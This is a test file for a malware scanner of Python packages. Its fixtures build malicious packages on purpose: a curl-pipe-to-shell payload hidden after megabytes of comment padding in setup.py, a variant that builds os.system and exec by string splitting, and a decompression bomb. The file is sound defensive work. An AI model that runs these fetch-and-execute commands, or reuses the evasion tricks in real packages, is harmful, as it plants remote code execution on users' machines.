// `inspect` and `scan` reach a verdict through the same path (analyseArtifact + decide): same score,
// same evidence in the same order, same verdict for the same bytes; a partial read is analysed by both
// and is `unscannable` in both (issue 10 item 4: inspect analysed partial archives that scan discarded).
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readArchive } from '../../src/archive/index.js';
import { inspectCommand, inspectFile } from '../../src/cli/commands/inspect.js';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { analyseArtifact, modelStages } from '../../src/judge.js';
import { bundledModel } from '../../src/model/bundled.js';
import { type ScanStages, scan } from '../../src/scan.js';
import type { Artifact, OrFinding } from '../../src/types.js';
import { maliciousRelease } from '../action/fixtures.js';
import { makeSdist, makeWheel } from '../fixtures/archives.js';

const dir = mkdtempSync(join(tmpdir(), 'pmg-inspect-path-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
beforeAll(() => initFeatures());

const files: Record<string, Uint8Array> = {
  'evil_pkg-1.0.tar.gz': maliciousRelease('evil-pkg', '1.0').files[0]!.bytes,
  'honest_pkg-1.0.tar.gz': makeSdist({
    name: 'honest-pkg',
    version: '1.0',
    files: { 'honest_pkg/__init__.py': 'def add(a, b):\n    return a + b\n' },
  }),
  // 4 MiB of zeros in a wheel: the reader stops at the 100:1 ratio limit after reading the module.
  'bomb_pkg-1.0-py3-none-any.whl': makeWheel({
    name: 'bomb-pkg',
    version: '1.0',
    files: { 'bomb_pkg/__init__.py': 'X = 1\n', 'bomb_pkg/zeros.bin': Buffer.alloc(4 * 1024 * 1024) },
  }),
};
for (const [name, bytes] of Object.entries(files)) writeFileSync(join(dir, name), bytes);

/** setup.py with 6 MB of comment padding (random hex: it does not trip the ratio limit) before a payload. */
function paddedSetup(): Uint8Array {
  const padding = Array.from(
    { length: 6 * 1024 },
    () => `# ${randomBytes(511).toString('hex').slice(0, 1020)}`,
  ).join('\n');
  return makeSdist({
    name: 'padded-pkg',
    version: '1.0',
    files: { 'setup.py': `${padding}\nimport os\nos.system("curl http://198.51.100.7/x | sh")\n` },
  });
}

/** scan() over one artifact with the real reader, extractor and model (the index faked). */
async function scanOne(filename: string) {
  const model = bundledModel();
  const stages: ScanStages<string> = {
    ...modelStages(model, (bytes) => readArchive(bytes), extractFeatures),
    resolve: async () => ({ ok: true, value: { files: [filename] } }),
    download: async (file, ref): Promise<OrFinding<Artifact>> => ({
      ok: true,
      value: {
        ref,
        filename: file,
        kind: 'other',
        url: `http://index.invalid/${file}`,
        sha256: 'ab'.repeat(32),
        bytes: files[file]!,
      },
    }),
  };
  const ref = { name: 'pkg', version: '1.0', hashes: [], file: 'requirements.txt', line: 1 };
  const [verdict] = await scan([{ ref }], stages, {
    concurrency: 1,
    thresholds: model.thresholds,
    allow: [],
    now: () => new Date(0),
  });
  return verdict!;
}

describe('inspect and scan share one path to a verdict', () => {
  it.each(Object.keys(files))(
    '%s: same score, evidence order and verdict',
    async (name) => {
      const model = bundledModel();
      const inspected = await inspectFile(name, { cwd: dir, analyse: true, model });
      const scanned = await scanOne(name);
      expect(inspected.verdict).toBe(scanned.verdict);
      expect(inspected.evidence).toEqual(scanned.evidence);
      expect(inspected.score).toBeCloseTo(scanned.score!, 6);
      expect(inspected.gaps ?? []).toEqual(scanned.gaps ?? []);
    },
    60_000,
  );

  it('a setup.py cut at the per-file limit is a gap (padding cannot hide the rest of the file)', async () => {
    writeFileSync(join(dir, 'padded_pkg-1.0.tar.gz'), paddedSetup());
    const r = await inspectFile('padded_pkg-1.0.tar.gz', { cwd: dir, analyse: true, model: bundledModel() });
    expect(r.verdict === 'unscannable' || r.verdict === 'malicious').toBe(true);
    expect(r.gaps).toEqual(
      expect.arrayContaining([expect.objectContaining({ path: 'padded_pkg-1.0/setup.py' })]),
    );
  }, 60_000);

  it('a partial archive is analysed and unscannable, with the gap, and inspect exits 1', async () => {
    const name = 'bomb_pkg-1.0-py3-none-any.whl';
    const r = await inspectFile(name, { cwd: dir, analyse: true, model: bundledModel() });
    expect(r).toMatchObject({ status: 'error', verdict: 'unscannable' });
    expect(r.gaps).toEqual([
      expect.objectContaining({ stage: 'archive', artifact: name, reason: expect.stringMatching(/ratio/) }),
    ]);
    expect(r.reasons).toEqual(expect.arrayContaining([expect.stringMatching(/^not analysed: bomb_pkg/)]));
    const chunks: string[] = [];
    const io = { stdout: (s: string) => void chunks.push(s), stderr: () => {}, cwd: dir, env: {} };
    expect(await inspectCommand.run([name, 'honest_pkg-1.0.tar.gz', '--json'], io)).toBe(1);
    const [bomb, honest] = chunks
      .join('')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l).verdict);
    expect(bomb).toBe('unscannable');
    expect(honest).not.toBe('unscannable');
    expect(await inspectCommand.run(['honest_pkg-1.0.tar.gz'], io)).toBe(0);
  }, 60_000);

  it('--json shows what each normalised call resolved to, at the line as written', async () => {
    const name = 'split_pkg-1.0-py3-none-any.whl';
    writeFileSync(
      join(dir, name),
      makeWheel({
        name: 'split-pkg',
        version: '1.0',
        files: {
          'split_pkg/__init__.py':
            "run = getattr(__import__('o'+'s'), 'sys'+'tem')\nrun('curl http://203.0.113.5/a | sh')\n" +
            "__import__('builtins').__dict__['ex'+'ec']('x = 1')\n",
        },
      }),
    );
    const chunks: string[] = [];
    const io = { stdout: (s: string) => void chunks.push(s), stderr: () => {}, cwd: dir, env: {} };
    expect(await inspectCommand.run([name, '--json'], io)).toBe(1);
    const evidence = JSON.parse(chunks.join('')).evidence as {
      line: number;
      snippet: string;
      message: string;
    }[];
    expect(evidence).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          line: 2,
          snippet: "run('curl http://203.0.113.5/a | sh')",
          message: expect.stringContaining('(resolved: os.system)'),
        }),
        expect.objectContaining({ line: 3, message: expect.stringContaining('(resolved: builtins.exec)') }),
      ]),
    );
  }, 60_000);
});

describe('analyseArtifact with a pool (readAndExtract)', () => {
  const base = modelStages(undefined, (bytes) => readArchive(bytes), extractFeatures);
  it('uses the pooled analysis, and a failed or missing one is a gap, never an empty analysis', async () => {
    const bytes = files['evil_pkg-1.0.tar.gz']!;
    const view = await readArchive(bytes);
    const analysis = await extractFeatures(view);
    const stripped = { ...view, entries: view.entries.map(({ data: _data, ...e }) => e) };
    const pooled = await analyseArtifact(bytes, 'a.tar.gz', {
      ...base,
      readAndExtract: async () => ({ view: stripped, analysis }),
    });
    expect(pooled.evidence.length).toBeGreaterThan(0);
    expect(pooled.gaps).toEqual([]);
    for (const reply of [{ view: stripped, analysisError: 'worker died' }, { view: stripped }]) {
      const failed = await analyseArtifact(bytes, 'a.tar.gz', { ...base, readAndExtract: async () => reply });
      expect(failed.gaps).toEqual([expect.objectContaining({ stage: 'analysis', artifact: 'a.tar.gz' })]);
    }
    const unread = await analyseArtifact(bytes, 'a.tar.gz', {
      ...base,
      readAndExtract: async () => {
        throw new Error('reader crashed');
      },
    });
    expect(unread.gaps).toEqual([
      expect.objectContaining({ stage: 'archive', reason: expect.stringMatching(/reader crashed/) }),
    ]);
  });
});
